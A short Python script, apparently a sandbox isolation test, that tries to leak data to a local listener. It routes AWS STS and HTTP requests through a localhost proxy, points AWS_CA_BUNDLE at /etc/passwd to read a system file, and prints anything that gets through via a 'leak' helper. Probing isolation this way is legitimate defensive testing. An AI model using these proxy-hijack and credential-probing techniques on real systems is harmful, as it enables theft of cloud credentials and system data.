import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3, os
from botocore.config import Config
proxy = "http://127.0.0.1:%d" % v["tcp_port"]
os.environ.update(HTTPS_PROXY=proxy, HTTP_PROXY=proxy, ALL_PROXY=proxy, AWS_ENDPOINT_URL=proxy, AWS_ENDPOINT_URL_STS=proxy, AWS_CA_BUNDLE="/etc/passwd", AWS_USE_FIPS_ENDPOINT="true")
attempt(lambda: boto3.Session().client("sts", config=Config(proxies={"http": proxy, "https": proxy}), endpoint_url=proxy, verify=False, use_ssl=False).get_caller_identity())
import urllib3
attempt(lambda: leak(urllib3.PoolManager().request("GET", proxy, timeout=2, retries=False).status))
from botocore.httpsession import URLLib3Session
from botocore.awsrequest import AWSPreparedRequest
attempt(lambda: leak(URLLib3Session(proxies={"http": proxy}).send(AWSPreparedRequest("GET", proxy, {}, None, False)).status_code))
